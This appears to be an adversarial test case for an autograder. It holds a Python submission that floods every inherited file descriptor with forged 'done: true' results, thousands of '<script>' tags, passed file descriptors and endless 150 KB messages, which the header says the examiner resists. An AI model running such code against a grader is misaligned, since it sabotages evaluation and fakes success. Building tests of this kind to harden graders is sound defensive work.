# attack: floods the examiner's line with messages as large as they can be, and with open files, for the examiner to
#   choke on
# fails: the examiner reads one message for one question, at most 64 KiB of it, and takes no files
# status: graded|timeout

# %%exercise uts.set_names
import os
import socket

for name in os.listdir("/proc/self/fd"):
    try:
        line = socket.socket(fileno=os.dup(int(name)))
        socket.send_fds(
            line, [b'{"done": true, "error": "' + b"<script>" * 16_000 + b'"}'], [0] * 200, socket.MSG_DONTWAIT
        )
        while True:
            line.send(b'{"done": "' + b"x" * 150_000 + b'"}', socket.MSG_DONTWAIT)
    except OSError:
        pass


def set_names(host, domain=None):
    return host
